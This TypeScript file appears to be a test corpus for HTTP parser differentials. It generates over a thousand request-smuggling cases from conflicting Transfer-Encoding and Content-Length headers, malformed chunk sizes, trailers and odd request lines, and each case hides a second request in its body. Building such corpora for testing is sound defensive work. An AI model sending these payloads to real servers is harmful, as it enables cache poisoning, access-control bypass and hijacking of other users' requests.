/**
 * Requests that two parsers may read differently (T80 to T85, T90): every way we know of hiding a length or a coding,
 * with a body that holds a second request for whoever reads the other length.
 */

export interface SmugglingCase {
  readonly name: string;
  readonly bytes: string;
}

const CODINGS = [
  '',
  'Transfer-Encoding: chunked',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding\t: chunked',
  ' Transfer-Encoding: chunked',
  'X: 1\r\n Transfer-Encoding: chunked',
  'Transfer-Encoding:chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding: \tchunked ',
  'Transfer-Encoding: CHUNKED',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: chunkedx',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: chunked, chunked',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: identity',
  'Transfer-Encoding: ',
  'Transfer-Encoding: ,chunked',
  'Transfer-Encoding: chunked;q=1',
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: 'chunked'",
  'Transfer-Encoding: \x0bchunked',
  'Transfer-Encoding: \x00chunked',
  'Transfer-Encoding: chunked\x00',
  'Transfer-Encoding: \xffchunked',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding:\n chunked',
  'X: 1\nTransfer-Encoding: chunked',
  'X: 1\rTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked',
  'Transfer_Encoding: chunked',
  'Transfer-Encoding\x00: chunked',
  'Transfer-\rEncoding: chunked',
  'TE: chunked',
  'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked',
];

/** `{}` is the number of bytes of the body. */
const LENGTHS = [
  '',
  'Content-Length: {}',
  'Content-Length: 0',
  'Content-Length: 4',
  'Content-Length: +{}',
  'Content-Length: -1',
  'Content-Length: 0{}',
  'Content-Length: 0x{}',
  'Content-Length: {}, {}',
  'Content-Length: {}\r\nContent-Length: 0',
  'Content-Length: 0\r\nContent-Length: {}',
  'Content-Length : {}',
  'Content_Length: {}',
  'Content-Length: {}\x00',
  'Content-Length: 4 4',
  'Connection: Content-Length\r\nContent-Length: {}',
];

const hidden = (id: number): string => `GET /smuggled-${id} HTTP/1.1\r\nHost: app\r\nX: `;

function bodies(id: number): readonly (readonly [string, string])[] {
  const inner = hidden(id);
  return [
    ['a chunked end and more', `0\r\n\r\n${inner}`],
    ['one chunk that holds it', `${inner.length.toString(16)}\r\n${inner}\r\n0\r\n\r\n`],
  ];
}

/** Chunked bodies that end for some where they do not for others. */
function chunkCases(): SmugglingCase[] {
  const inner = hidden(9000);
  const size = inner.length.toString(16);
  const forms: readonly (readonly [string, string])[] = [
    ['an extension', `${size};a=b\r\n${inner}\r\n0\r\n\r\n`],
    ['an extension with LF', `${size};\n${inner}\r\n0\r\n\r\n`],
    ['a size with LF', `${size}\n${inner}\n0\n\n`],
    ['a size with CR', `${size}\r${inner}\r0\r\r`],
    ['a size with space', `${size} \r\n${inner}\r\n0\r\n\r\n`],
    ['a size with a sign', `+${size}\r\n${inner}\r\n0\r\n\r\n`],
    ['a size as 0x', `0x${size}\r\n${inner}\r\n0\r\n\r\n`],
    ['a size with underscore', `1_0\r\n${inner}\r\n0\r\n\r\n`],
    ['a size that overflows', `10000000000000000\r\n${inner}\r\n0\r\n\r\n`],
    ['a size of 2^32', `100000000\r\n${inner}\r\n0\r\n\r\n`],
    ['no CRLF after data', `${size}\r\n${inner}0\r\n\r\n`],
    ['other bytes after data', `${size}\r\n${inner}XX0\r\n\r\n`],
    ['an empty size', `\r\n${inner}\r\n0\r\n\r\n`],
    ['trailers with a length', `0\r\nContent-Length: 5\r\n\r\n${inner}`],
    ['trailers with a coding', `0\r\nTransfer-Encoding: chunked\r\n\r\n${inner}`],
    ['trailers folded', `0\r\nA: b\r\n c\r\n\r\n${inner}`],
    ['trailers with LF', `0\r\nA: b\n\n${inner}`],
    ['a last chunk of zeros', `000\r\n\r\n${inner}`],
    ['a last chunk with extension', `0;x\r\n\r\n${inner}`],
  ];
  return forms.map(([name, body]) => ({
    name: `chunks: ${name}`,
    bytes: `POST /base HTTP/1.1\r\nHost: app\r\nTransfer-Encoding: chunked\r\n\r\n${body}`,
  }));
}

function lineCases(): SmugglingCase[] {
  const tail = `Host: app\r\n\r\n${hidden(9100)}`;
  const lines = [
    'GET /base HTTP/1.1\n',
    'GET /base HTTP/1.1\r',
    'GET  /base HTTP/1.1\r\n',
    'GET /base  HTTP/1.1\r\n',
    'GET\t/base\tHTTP/1.1\r\n',
    'GET /base HTTP/1.1 \r\n',
    ' GET /base HTTP/1.1\r\n',
    '\r\nGET /base HTTP/1.1\r\n',
    'GET /base\r\n',
    'GET /base HTTP/1.0\r\n',
    'GET /base HTTP/1.2\r\n',
    'GET /base HTTP/2.0\r\n',
    'GET /base HTTP/01.1\r\n',
    'GET /base http/1.1\r\n',
    'GET /base\x00 HTTP/1.1\r\n',
    'GET /base\x0b HTTP/1.1\r\n',
    'GET http://other/base HTTP/1.1\r\n',
    'GET //app/base HTTP/1.1\r\n',
    'GET base HTTP/1.1\r\n',
    'GET * HTTP/1.1\r\n',
    'CONNECT app:80 HTTP/1.1\r\n',
    'GET /base?a HTTP/1.1 HTTP/1.1\r\n',
    'GE\x00T /base HTTP/1.1\r\n',
    'GET /base#x HTTP/1.1\r\n',
    'PRI * HTTP/1.1\r\n',
  ];
  const heads = [
    'Host: app\r\nHost: other\r\n\r\n',
    'Host: app\r\nX: 1\x00\r\n\r\n',
    'Host: app\r\n: x\r\n\r\n',
    'Host: app\r\nX\r\n\r\n',
    'Host: app\r\nX: 1\r\n\tY: 2\r\n\r\n',
    'Host: app\nX: 1\n\n',
    'Host: app\r\nX: 1\n\r\n',
    'Host: app\r\nConnection: upgrade\r\nUpgrade: websocket\r\nContent-Length: 40\r\n\r\n',
    'Host: app\r\nConnection: upgrade\r\nUpgrade: h2c\r\nContent-Length: 0\r\n\r\n',
    'Host: app\r\nExpect: 100-continue\r\nContent-Length: 4\r\n\r\n',
    'Host: app\r\nExpect: 100-Continue, x\r\nContent-Length: 4\r\n\r\n',
    'Host: app\r\nConnection: close, X-Forwarded-For\r\n\r\n',
  ];
  return [
    ...lines.map((line) => ({ name: `line ${JSON.stringify(line)}`, bytes: line + tail })),
    ...heads.map((head) => ({
      name: `head ${JSON.stringify(head)}`,
      bytes: `POST /base HTTP/1.1\r\n${head}${hidden(9200)}`,
    })),
  ];
}

/** More than a thousand. */
export function smugglingCorpus(): SmugglingCase[] {
  const cases: SmugglingCase[] = [];
  for (const coding of CODINGS) {
    for (const length of LENGTHS) {
      for (const [what, body] of bodies(cases.length)) {
        const fields = [length.replaceAll('{}', String(body.length)), coding].filter(
          (line) => line !== '',
        );
        cases.push({
          name: `${JSON.stringify(coding)} with ${JSON.stringify(length)}: ${what}`,
          bytes: `POST /base HTTP/1.1\r\n${['Host: app', ...fields].join('\r\n')}\r\n\r\n${body}`,
        });
      }
    }
  }
  return [...cases, ...chunkCases(), ...lineCases()];
}
